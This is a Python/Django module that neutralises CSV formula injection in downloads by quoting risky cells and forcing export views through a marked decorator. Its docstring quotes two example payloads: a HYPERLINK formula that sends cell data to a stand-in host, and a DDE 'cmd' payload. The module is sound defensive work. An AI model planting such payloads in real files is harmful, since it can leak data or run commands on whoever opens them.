"""Every CSV download goes through here, so none can carry a formula.

A spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or
`@` (and, in some, a tab or carriage return) as a formula: a customer's
comment `=HYPERLINK("http://evil.example/?"&A1,"x")` or a note
`+1+cmd|' /C calc'!A0` would then run on a manager's machine. Following
OWASP's CSV injection guidance, `safe_cell` prefixes such a text cell with a
single quote, which spreadsheets read as "this is text". Real numbers (int,
float, Decimal values) are not text and stay numeric, so a negative NPS
stays a number; the string "-1+1" is neutralised.

Views that download CSV are marked `@csv_export`; `csv_response` refuses to
run outside one. The mark is how the test of every export finds them in the
URLconf (tests/site/test_csv_exports.py), and the refusal is what keeps a
new download from skipping that test.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from contextvars import ContextVar
from decimal import Decimal
from functools import wraps

from django.core.exceptions import ImproperlyConfigured
from django.http import StreamingHttpResponse

#: What a cell may not begin with (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "text/csv; charset=utf-8"

_in_export: ContextVar[bool] = ContextVar("cvx_csv_export", default=False)


def safe_cell(value):
    """The value as the CSV writer should get it: numbers as they are, None
    empty, anything else as text, quoted with a leading `'` when it would
    begin with a formula character."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool is an int too: True/False
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_export(view):
    """Marks a view that may answer with a CSV download (see the module's docstring)."""

    @wraps(view)
    def wrapper(request, *args, **kwargs):
        token = _in_export.set(True)
        try:
            return view(request, *args, **kwargs)
        finally:
            _in_export.reset(token)

    wrapper.csv_export = True
    return wrapper


class _Echo:
    """A file whose write() returns the line, so csv.writer can feed a stream."""

    def write(self, value: str) -> str:
        return value


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Mapping | Sequence]) -> StreamingHttpResponse:
    """A streamed CSV attachment: the header, then one line per row; a row is
    a mapping (read in the header's order) or a sequence. Rows are read as
    the response is sent, so a lazy iterator streams without being held."""
    if not _in_export.get():
        raise ImproperlyConfigured(
            "csv_response() is called from a view not marked @csv_export, so the test of "
            "every CSV export would not cover it."
        )
    writer = csv.writer(_Echo())

    def lines():
        yield writer.writerow([safe_cell(name) for name in header])
        for row in rows:
            cells = [row.get(name) for name in header] if isinstance(row, Mapping) else row
            yield writer.writerow([safe_cell(cell) for cell in cells])

    response = StreamingHttpResponse(lines(), content_type=CONTENT_TYPE)
    safe_name = re.sub(r"[^\w.-]", "-", filename, flags=re.ASCII)  # nothing that could end the header's quoted value
    response["Content-Disposition"] = f'attachment; filename="{safe_name}"'
    return response
